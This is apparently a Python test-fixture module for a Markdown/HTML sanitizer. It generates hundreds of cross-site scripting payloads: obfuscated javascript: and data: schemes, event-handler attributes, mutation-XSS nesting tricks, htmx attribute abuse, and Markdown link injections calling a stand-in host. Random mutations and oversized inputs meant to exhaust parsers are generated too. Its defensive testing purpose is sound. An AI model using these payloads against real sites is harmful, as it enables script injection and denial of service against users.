"""Texts that try to act: written out by hand, and combined at random from their pieces.

Whatever runs calls `ranHere`; whatever asks for something asks for an address that says "hostile".
So a browser that is watched shows at once which of them acted.
"""

import itertools
import random
from collections.abc import Iterator

OUT = "//hostile.example/x"
JS = "ranHere(1)"

_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onscroll",
    "onwheel",
    "oncopy",
    "onbeforeinput",
    "onpageshow",
    "ontransitionend",
    "onsubmit",
    "oninput",
    "onstart",
]
_TAGS = [
    "a",
    "abbr",
    "area",
    "article",
    "aside",
    "audio",
    "b",
    "base",
    "bdo",
    "body",
    "br",
    "button",
    "canvas",
    "center",
    "code",
    "col",
    "dd",
    "del",
    "details",
    "dialog",
    "div",
    "dl",
    "em",
    "embed",
    "fieldset",
    "figure",
    "font",
    "footer",
    "form",
    "frame",
    "frameset",
    "h1",
    "h2",
    "head",
    "hr",
    "html",
    "i",
    "iframe",
    "img",
    "input",
    "ins",
    "kbd",
    "label",
    "li",
    "link",
    "main",
    "map",
    "mark",
    "marquee",
    "menu",
    "meta",
    "meter",
    "nav",
    "noscript",
    "object",
    "ol",
    "option",
    "output",
    "p",
    "picture",
    "plaintext",
    "pre",
    "progress",
    "q",
    "rp",
    "ruby",
    "s",
    "samp",
    "script",
    "section",
    "select",
    "slot",
    "small",
    "source",
    "span",
    "strike",
    "strong",
    "style",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "template",
    "textarea",
    "th",
    "time",
    "title",
    "tr",
    "track",
    "tt",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
    "xmp",
    "math",
    "mtext",
    "mi",
    "annotation-xml",
    "foreignObject",
    "desc",
    "x-y",
    "gl-live",
    "gl-preview",
]
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java\rscript:",
    "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "&#X6a;&#97;vascript:",
    "javascript&colon;", "javascript&#58;", "java&Tab;script:", "java&NewLine;script:", "\x01javascript:",
    "&#1;javascript:", "\u00a0javascript:", "\u2028javascript:", "\ufeffjavascript:", "\u200bjavascript:",
    "java\x00script:", "java\u00adscript:", "\uff4aavascript:", "javascript\uff1a", "ja\\vascript:",
    "%6Aavascript:", "javascript%3A", "javascript://hostile.example/%0A", "vbscript:", "VbScRiPt:",
    "data:text/html,<script>ranHere(1)</script>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbkhlcmUoMSkiLz4=",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-", "blob:", "filesystem:", "file:///etc/hostile",
    "feed:javascript:", "view-source:javascript:", "livescript:", "mocha:", "jar:javascript:", "about:",
    "intent:", "ms-its:", "wyciwyg:", "jav&#x0D;ascript:", "jav&#x09;ascript:", "&#14;javascript:",
)  # fmt: skip
_ASKING = (
    "data-hx-get=/hostile data-hx-trigger=load", "hx-get=/hostile hx-trigger='load, every 1s'",
    "hx-on:click=ranHere(1)", "hx-on::load=ranHere(1)", "data-hx-on--load=ranHere(1)", "HX-POST=/hostile",
    "hx-vals='js:{a:ranHere(1)}'", "hx-ext=hostile", "hx-boost=true", "hx-swap-oob=true", "hx-preserve",
    "hx-headers='js:{a:ranHere(1)}'", "data-hx-disable=false", "data-card=/hostile", "data-confirm=x",
    f"style=background:url({OUT})", "style='position:fixed;inset:0'", "style=behavior:url(#x)",
    f"background={OUT}", f"poster={OUT}", f"srcset={OUT}", f"formaction={OUT}", f"ping={OUT}",
    f"action={OUT}", f"data={OUT}", f"longdesc={OUT}", f"cite={OUT}", f"manifest={OUT}", f"dynsrc={OUT}",
    f"lowsrc={OUT}", f"xlink:href={OUT}", f"usemap={OUT}", f"codebase={OUT}", "srcdoc='<script>ranHere(1)</script>'",
    "autofocus", "contenteditable", "tabindex=1", "accesskey=x", "target=_top", "is=gl-live", "slot=x",
    "name=body", "id=login class='btn danger modal'", "popover popovertarget=x", "form=x", "part=x",
    "xmlns=http://www.w3.org/1999/xhtml", "http-equiv=refresh content='0;url=//hostile.example'",
)  # fmt: skip
_NESTED = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ranHere(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=ranHere(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ranHere(1)>",
    '<noscript><p title="</noscript><img src=x onerror=ranHere(1)>">',
    "<math><annotation-xml encoding=text/html><style></math><img src=x onerror=ranHere(1)>",
    "<svg><foreignObject><p><svg><style><!--</style><img src=x onerror=ranHere(1)>--></svg>",
    "<table><td><svg><desc><td><img src=x onerror=ranHere(1)></desc>", "<select><template><img src=x onerror=ranHere(1)>",
    "<svg><title><![CDATA[</title><img src=x onerror=ranHere(1)>]]></title></svg>",
    '<textarea><p title="</textarea><img src=x onerror=ranHere(1)>">', "<title></b><img src=x onerror=ranHere(1)></title>",
    '<xmp><p title="</xmp><img src=x onerror=ranHere(1)>">', '<iframe><p title="</iframe><img src=x onerror=ranHere(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=ranHere(1)>">', "<svg><script>ranHere&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:ranHere(1)'><text y=9>x</text></a></svg>", "<svg><set attributeName=onload to=ranHere(1)>",
    "<svg><animate attributeName=href values=javascript:ranHere(1) /><a id=x><rect width=9 height=9 /></a>",
    f"<svg><use href='{OUT}#x' /><image href={OUT} /></svg>", "<math href='javascript:ranHere(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:ranHere(1)'>x</maction></math>",
    "<a href='javascript:ranHere(1)'><svg><a href=x>y</a></svg></a>", "<b><p><b><p><a><p><table><a href=x onclick=ranHere(1)>",
    "<details open ontoggle=ranHere(1)><summary onclick=ranHere(1)>x</summary></details>",
    "<!--><img src=x onerror=ranHere(1)>-->", "<!---!><img src=x onerror=ranHere(1)>-->", "<!-- --!><img src=x onerror=ranHere(1)>-->",
    "<![CDATA[<img src=x onerror=ranHere(1)>]]>", "<?xml x?><img src=x onerror=ranHere(1)>", "<!DOCTYPE x [<!ENTITY x 'y'>]>&x;",
    "</p><img src=x onerror=ranHere(1)//", "<img src=x onerror=ranHere(1)", "<<img src=x onerror=ranHere(1)>>", "<img/src=x/onerror=ranHere(1)>",
    "<img\x0csrc=x\x0conerror=ranHere(1)>", "<img src=`x`onerror=ranHere(1)>", "<img \x00src=x onerror=ranHere(1)>",
    "<im\x00g src=x onerror=ranHere(1)>", "<scr<script>ipt>ranHere(1)</scr</script>ipt>", "<SCRIPT/SRC=//hostile.example/x.js>",
    "<script\n>ranHere(1)</script\n>", "\uff1cscript\uff1eranHere(1)\uff1c/script\uff1e", "\u02bcscript\u02bd", "+ADw-script+AD4-ranHere(1)",
    f"<link rel=stylesheet href={OUT}>", f"<link rel=preload as=script href={OUT}>", f"<base href={OUT}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<object data={OUT}><param name=x></object>", f"<embed src={OUT}>",
    f"<iframe src={OUT} srcdoc='<script>parent.ranHere(1)</script>'></iframe>", f"<form action={OUT}><input name=a type=image src={OUT}><button>x</button></form>",
    f"<style>@import '{OUT}';*{{background:url({OUT})}}</style>", f"<video src={OUT} poster={OUT} autoplay></video>", f"<audio src={OUT} autoplay>",
    f"<picture><source srcset={OUT}><img src={OUT}></picture>", f"<input type=checkbox checked onclick=ranHere(1) src={OUT}>",
)  # fmt: skip
_TRICKS = (
    "[x][r]\n\n[r]: javascript:ranHere(1)", "[x][r]\n\n[r]: <javascript:ranHere(1)> 'x\" onclick=ranHere(1)'", "[r]\n\n[R]: data:text/html,x",
    "<javascript:ranHere(1)>", "<vbscript:x>", "<data:text/html,x>", '<http://hostile.example/"onclick=ranHere(1)>', '<x@hostile.example"onclick=ranHere(1)>',
    f"![x]({OUT})", "![x](javascript:ranHere(1))", "![x](data:image/svg+xml,<svg/onload=ranHere(1)>)", "[![x](//hostile.example/y)](javascript:ranHere(1))",
    '![a" onerror="ranHere(1)](x)', '[a](x "y" onclick=ranHere(1) ")', '[a](<x" onclick=ranHere(1) ">)', "[a](x 'y\"><img src=x onerror=ranHere(1)>')",
    "a[^1]\n\n[^1]: <img src=x onerror=ranHere(1)>", 'a[^"><img src=x onerror=ranHere(1)>]\n\n[^"><img src=x onerror=ranHere(1)>]: x',
    "# x {: onclick=ranHere(1) data-hx-get=/hostile }", 'x\n{: style="position:fixed" onload=ranHere(1) }', "[x](y){: target=_top onclick=ranHere(1) }",
    "# <img src=x onerror=ranHere(1)>", '# " onclick=ranHere(1) x="', "# [x](javascript:ranHere(1))", "<img src=x onerror=ranHere(1)>\n===",
    "Term\n: <script>ranHere(1)</script>", '*[HTML]: "><script>ranHere(1)</script>\n\nHTML', "[TOC]", "[[x|javascript:ranHere(1)]]",
    "| <img src=x onerror=ranHere(1)> |\n|---|\n| <script>ranHere(1)</script> |", "- [ ] <input onclick=ranHere(1)>\n- [x] <form>",
    '```"><script>ranHere(1)</script>\nx\n```', "```html onload=ranHere(1)\n<script>ranHere(1)</script>\n```", "~~~{.x onclick=ranHere(1)}\nx\n~~~",
    "`<script>ranHere(1)</script>`", "``` `<img src=x onerror=ranHere(1)>", "    <script>ranHere(1)</script>", "> <iframe src=//hostile.example>", "- <style>*{}\n  </style>",
    "---\ntitle: <script>ranHere(1)</script>\n---\n", "\x02wzxhzdk:0\x03<b>", "\x02klzzwxh:0000\x03", "\x0260\x03script\x0262\x03", "\ue0007\ue001 # a\ue0000\ue001",
    "gl-0000000000000000-l0", "[x](gl-0000000000000000-l0)", "<a href='gl-0-i0'>x</a>", '@hostile"><b onclick=ranHere(1)>', 'RFC-1"><b onclick=ranHere(1)>',
    'https://hostile.example/"onmouseover=ranHere(1)', "www.hostile.example/<script>", "mailto:x@hostile.example?body=<script>", "javascript:ranHere(1)",
    "\ud83d\udc00 <script>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "\u202e>tpircs<", "e\u0301<b\u0301 onclick=ranHere(1)>",
    "<b" + " x" * 200 + " onclick=ranHere(1)>", "<a href='" + "&#x6a;" * 50 + "'>x</a>", "<b>" * 60 + "<img src=x onerror=ranHere(1)>", "> " * 40 + "<script>ranHere(1)",
    '<a name=x onclick=ranHere(1) href="javascript:ranHere(1)">z</a>', '<table align=left style="text-align: left; background:url(//hostile.example)">',
)  # fmt: skip


def corpus() -> list[str]:
    """Every text written by hand."""
    return [
        *(f"<{tag} {event}={JS} src={OUT} href=x>y</{tag}>" for tag, event in _pairs()),
        *(shape.format(f"{scheme}{JS}") for scheme in _SCHEMES for shape in _SHAPES),
        *(f"<{tag} {asking}>x</{tag}>" for asking in _ASKING for tag in ("div", "a", "img")),
        *_NESTED,
        *_TRICKS,
    ]


_SHAPES = ("[x]({0})", "<a href='{0}'>x</a>", "[x][r]\n\n[r]: {0}", "![x]({0})", "<{0}>")


def _pairs() -> Iterator[tuple[str, str]]:
    return zip(_TAGS, itertools.cycle(_EVENTS), strict=False)


_GLUE = (
    "",
    " ",
    "\n",
    "\n\n",
    "\n> ",
    "\n- ",
    "\n    ",
    "`",
    "*",
    "|",
    "](",
    "<",
    ">",
    '"',
    "'",
    "\t",
    "\\",
)


def mutations(count: int, seed: int = 20_26) -> Iterator[str]:
    """`count` texts combined from the pieces; the same for the same seed."""
    # Not for secrets: the same texts in every run.
    chance = random.Random(seed)
    known = corpus()
    for _each in range(count):
        parts = [_bent(chance, chance.choice(known)) for _part in range(chance.randint(1, 3))]
        yield chance.choice(_GLUE).join(parts)


def _bent(chance: random.Random, text: str) -> str:
    """The text with up to two of its places cut, doubled, turned or filled."""
    for _each in range(chance.randint(0, 2)):
        at, to = sorted((chance.randrange(len(text) + 1), chance.randrange(len(text) + 1)))
        piece = text[at:to]
        bend = chance.randrange(6)
        if bend == 0:
            piece = ""
        elif bend == 1:
            piece += piece[:40]
        elif bend == 2:
            piece = piece.swapcase()
        elif bend == 3:
            piece = f"{chance.choice(_SCHEMES)}{piece}"
        elif bend == 4:
            piece = f" {chance.choice(_ASKING)} {chance.choice(_EVENTS)}={JS} {piece}"
        else:
            piece = "".join(f"&#{ord(each)};" for each in piece[:30]) + piece[30:]
        text = text[:at] + piece + text[to:]
    return text


def bombs(size: int = 200_000) -> dict[str, str]:
    """Texts of `size` characters that cost a reader much more than they look."""
    units = {
        "brackets": "[", "links": "[a](", "quotes": "> ", "lists": "* - ", "emphasis": "**a _b ",
        "tags": "<b>", "tables": "a|b\n-|-\n", "open tags": "<b x=", "comments": "<!--", "ticks": "`a``b",
        "references": "[a]: b\n", "footnotes": "[^a]", "entities": "&#106;", "pictures": "![", "entity": "&a",
    }  # fmt: skip
    return _long(units, size)


def unending(size: int = 200_000) -> dict[str, str]:
    """Texts in which the search's reader looks ahead at every word for an end that never comes."""
    units = {
        "comments": "<!--", "open": "<", "open tags": "<a ", "quoted tags": '<a x="', "dotted": "./", "homes": "~/",
        "underlined": "a_", "hosts": "a.a.a.a", "half hosts": "a-b.", "mail": "Z@1", "mail boxes": "@1a",
        "numbers": "1.1.1.", "versions": "a-1.", "paths": "-/-/", "addresses": "http://a.b/c?d=e&", "long hosts": "a" * 90 + "_",
    }  # fmt: skip
    return _long(units, size)


def _long(units: dict[str, str], size: int) -> dict[str, str]:
    return {name: (unit * (size // len(unit) + 1))[:size] for name, unit in units.items()}
